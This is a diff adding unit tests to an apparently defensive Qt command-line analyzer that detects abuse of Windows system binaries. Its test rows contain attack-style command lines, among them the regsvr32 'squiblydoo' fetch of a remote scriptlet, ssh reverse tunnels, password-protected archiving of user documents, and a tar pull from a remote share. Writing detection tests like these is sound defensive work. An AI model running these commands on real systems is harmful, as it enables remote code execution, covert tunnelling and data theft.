@@ -85,6 +85,8 @@ private Q_SLOTS:
     void netExeVersusDotNetNames();
     void switchKeywords_data();
     void switchKeywords();
+    void switchRules_data();
+    void switchRules();
     void customPatternsAndAllowlist();
     void newRulesCatch_data();
     void newRulesCatch();
@@ -441,6 +443,42 @@ void TestCmdlineAnalyzer::switchKeywords()
     m.scan(text, &pos);
     QCOMPARE(int(pos[size_t(id)]), at);
     QVERIFY(m.keyword(id).startsWith(QLatin1Char('-')));
+}
+
+// Catalogue entries whose single-letter switches used to match the start of any word
+// ("Program Files", "System32", "deploy@", ".local"): the abuse still fires on the switch.
+void TestCmdlineAnalyzer::switchRules_data()
+{
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QString>("rule");
+    QTest::addColumn<bool>("fires");
+    QTest::newRow("7z a -p: password archive") << s("7z a -pInfected123 C:\\Users\\Public\\out.7z C:\\Users\\jdoe\\Documents") << s("lolbin:7z.exe:1") << true;
+    QTest::newRow("7z -p after the files") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a out.7z C:\\data -pS3cret") << s("archive-with-password") << true;
+    QTest::newRow("rar -hp") << s("rar a -hpSecret loot.rar C:\\data") << s("archive-with-encrypted-names") << true;
+    QTest::newRow("7z backup without password") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a C:\\Backup\\docs-2024-01.7z C:\\Users\\jdoe\\Documents\\*") << s("lolbin:7z.exe:1") << false;
+    QTest::newRow("7z extraction with password") << s("7z x archive.7z -pSecret -oC:\\out") << s("archive-with-password") << false;
+    QTest::newRow("ssh -R remote forward") << s("ssh -R 8080:localhost:80 user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
+    QTest::newRow("ssh -D1080 glued") << s("ssh -D1080 -N user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
+    QTest::newRow("ssh with a key to deploy@") << s("ssh -i C:\\Users\\jdoe\\.ssh\\id_ed25519 deploy@build01.corp.local") << s("lolbin:ssh.exe:1") << false;
+    QTest::newRow("ssh folder script") << s("\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\ProgramData\\ssh\\runtests.bat\"") << s("lolbin:ssh.exe:1") << false;
+    QTest::newRow("regsvr32 squiblydoo") << s("regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll") << s("lolbin:regsvr32.exe:1") << true;
+    QTest::newRow("tar -xf from UNC") << s("tar -xf \\\\203.0.113.7\\share\\a.tar -C C:\\Users\\Public") << s("lolbin:tar.exe:2") << true;
+    QTest::newRow("node -e") << s("node -e \"require('child_process').exec('calc')\"") << s("lolbin:node.exe:1") << true;
+    QTest::newRow("node webpack --mode production") << s("node C:\\src\\webapp\\node_modules\\.bin\\webpack --mode production") << s("lolbin:node.exe:1") << false;
+    QTest::newRow("wsl -d distribution") << s("wsl.exe -d Ubuntu-22.04 -- make test") << s("lolbin:wsl.exe:1") << false;
+    QTest::newRow("wsl -e") << s("wsl.exe -e /bin/sh -c id") << s("lolbin:wsl.exe:1") << true;
+}
+
+void TestCmdlineAnalyzer::switchRules()
+{
+    QFETCH(QString, line);
+    QFETCH(QString, rule);
+    QFETCH(bool, fires);
+    const AnalysisResult r = analyzer().analyze(line);
+    bool fired = false;
+    for (const Finding &f : r.findings)
+        fired = fired || f.rule == rule;
+    QVERIFY2(fired == fires, qPrintable(describe(r)));
 }
 
 void TestCmdlineAnalyzer::contributionsAddUp()
